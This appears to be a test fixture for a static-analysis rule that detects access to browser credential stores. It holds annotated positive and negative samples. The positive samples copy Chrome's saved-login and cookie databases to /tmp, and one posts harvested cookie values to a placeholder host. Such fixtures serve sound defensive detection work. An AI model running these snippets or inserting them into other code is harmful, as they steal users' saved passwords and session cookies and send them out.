import os, pathlib, shutil, sqlite3
import browser_cookie3, requests


def grab(profile):
    store = os.path.join(profile, "Default", "Login Data")
    # ruleid: credential-access-browser-store
    shutil.copy2(store, "/tmp/copy.db")


def cookies():
    jar = browser_cookie3.chrome()
    # ruleid: credential-access-browser-store
    requests.post("https://a.invalid/", json={"c": [c.value for c in jar]})


def jar():
    # ruleid: credential-access-browser-store
    shutil.copy(pathlib.Path.home() / ".config/chromium/Default/Cookies", "/tmp/jar.db")


def own_jar():
    # ok: credential-access-browser-store
    return sqlite3.connect(pathlib.Path.home() / ".acme/cookies")


def own_table():
    # ok: credential-access-browser-store
    return sqlite3.connect(os.path.join("data", "logins.sqlite"))
